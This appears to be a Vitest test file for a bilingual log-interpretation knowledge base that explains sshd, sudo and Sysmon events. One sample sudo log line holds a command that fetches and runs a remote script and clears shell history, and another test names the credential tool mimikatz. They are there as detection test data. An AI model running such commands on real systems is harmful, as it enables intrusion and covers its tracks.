import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { subjectOfExample } from "./example-subject.js";
import { loadKnowledge } from "./knowledge-base.js";
import type { KnowledgeSubject } from "./knowledge-subject.js";

const knowledge = loadKnowledge();
const idsOf = (subject: KnowledgeSubject): readonly string[] => knowledge.match(subject).map((meaning) => meaning.id);

describe("the bundled entries", () => {
  it("load without a problem", () => {
    expect(knowledge.problems).toEqual([]);
    expect(knowledge.entries.length).toBeGreaterThan(250);
  });

  it("match their own examples", () => {
    const missed = knowledge.entries.filter(
      (entry) => !idsOf(subjectOfExample(entry)).some((id) => id.startsWith(entry.id)),
    );
    expect(missed.map((entry) => entry.id)).toEqual([]);
  });

  it("take a Windows event for no report of a sensor on Linux", () => {
    const fields = { EventID: "1", Channel: "Microsoft-Windows-Sysmon/Operational", Image: "C:\\Windows\\cmd.exe" };
    const subject = { text: "Process Create", program: "Sysmon", format: "windows-event", fields } as const;
    expect(idsOf(subject)).toEqual(["sysmon.1"]);
  });

  it("say it in both languages, in sentences of their own", () => {
    const words = (text: string): number => text.split(/\s+/).length;
    const thin = knowledge.entries.filter(({ en, de }) => en === de || words(en) < 5 || words(de) < 5);
    expect(thin.map((entry) => entry.id)).toEqual([]);
  });

  it("write German with umlauts and sharp s, not their transcription", () => {
    const german = knowledge.entries.map((entry) => entry.de).join("\n");
    expect(german).toMatch(/[äöü]/);
    const transcribed = /\b(?:ueber|fuer|moeglich|zurueck|geloescht|koennen|Schluessel|ausfuehr|Domaene)/;
    expect(knowledge.entries.filter((entry) => transcribed.test(entry.de)).map((entry) => entry.id)).toEqual([]);
  });

  it("carry tags of ATT&CK in one spelling", () => {
    const tags = [...new Set(knowledge.entries.flatMap((entry) => entry.tags))];
    expect(tags.filter((tag) => !/^(?:attack\.(?:t\d{4}(?:\.\d{3})?|[a-z-]+)|[a-z0-9-]+)$/.test(tag))).toEqual([]);
  });
});

describe("matching", () => {
  it("finds a shape whose values are masked", () => {
    const text = "sshd: Failed password for <user> from <ip> port <n> ssh2";
    expect(idsOf({ format: "syslog", program: "sshd", text })[0]).toBe("ssh.failed-password");
  });

  it("puts the worst meaning first and returns at most four", () => {
    const text =
      "sudo: <user> : TTY=pts/<n> ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl http://<ip>/x | sh; chmod +x /tmp/x; history -c";
    const meanings = knowledge.match({ format: "syslog", program: "sudo", text });
    expect(meanings.length).toBeLessThanOrEqual(4);
    expect(meanings[0]?.severity).toBe("attack");
  });

  it("leaves the general meaning out where a more telling one of the same event matches", () => {
    const text = "sudo: <user> : TTY=pts/<n> ; PWD=/home/<user> ; USER=root ; COMMAND=/bin/bash";
    const ids = idsOf({ format: "syslog", program: "sudo", text });
    expect(ids).toContain("sudo.command.shell");
    expect(ids).not.toContain("sudo.command");
  });

  it("gives the same answer in the same order every time", () => {
    const subjects = knowledge.entries.map(subjectOfExample);
    const other = loadKnowledge();
    expect(subjects.map((subject) => other.match(subject))).toEqual(
      subjects.map((subject) => knowledge.match(subject)),
    );
  });

  it("finds nothing in an event it does not know", () => {
    expect(idsOf({ format: "plain", text: "all quiet on a sunny afternoon" })).toEqual([]);
  });

  it("bounds what a hostile value can cost or say", () => {
    const hostile = "a0".repeat(500_000) + "\u0000\u001b[2J" + "mimikatz";
    expect(idsOf({ format: "plain", text: hostile })).toEqual([]);
    expect(idsOf({ format: "json-lines", text: "", fields: { q: hostile, "\u0000": "\u0007" } }).length).toBeLessThan(
      5,
    );
  });
});

describe("a user's folder", () => {
  let folder = "";
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), "knowledge-"));
    const own = {
      id: "site.badge",
      match: { text: "badge reader" },
      en: "Door opened.",
      de: "Tür geöffnet.",
      tags: [],
      severity: "info",
    };
    const replacing = { ...own, id: "ssh.failed-password", match: { text: "failed password for" }, en: "Ours." };
    const unsafe = { ...own, id: "site.unsafe", match: { text: "re:(a+)+$" } };
    const misspelt = { ...own, id: "site.misspelt", match: { texts: "x" } };
    const lines = [own, replacing, unsafe, misspelt, { id: "site.empty" }].map((entry) => JSON.stringify(entry));
    writeFileSync(join(folder, "own.jsonl"), [...lines, "{ broken"].join("\n"));
    writeFileSync(
      join(folder, "list.json"),
      JSON.stringify([{ ...own, id: "site.listed", match: { text: "turnstile" } }]),
    );
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  it("adds entries and replaces ours by id", () => {
    const extended = loadKnowledge({ folders: [folder] });
    expect(extended.match({ format: "plain", text: "Badge reader 4" })[0]?.id).toBe("site.badge");
    expect(extended.match({ format: "plain", text: "turnstile 2" })[0]?.id).toBe("site.listed");
    const replaced = extended.match({ format: "plain", text: "Failed password for root" });
    expect(replaced.find((meaning) => meaning.id === "ssh.failed-password")?.en).toBe("Ours.");
  });

  it("reports broken entries by file, line and reason and keeps the rest", () => {
    expect(loadKnowledge({ folders: [folder] }).problems).toEqual([
      { file: "own.jsonl", line: 5, reason: "en is missing" },
      { file: "own.jsonl", line: 6, reason: "not valid JSON" },
      { file: "own.jsonl", line: 3, reason: "expression repeats without an upper limit" },
      { file: "own.jsonl", line: 4, reason: expect.stringContaining("unknown condition") as string },
    ]);
  });

  it("reports a folder that is not there", () => {
    const [problem] = loadKnowledge({ folders: [join(folder, "absent")] }).problems;
    expect(problem?.reason).toBe("folder cannot be read");
  });
});
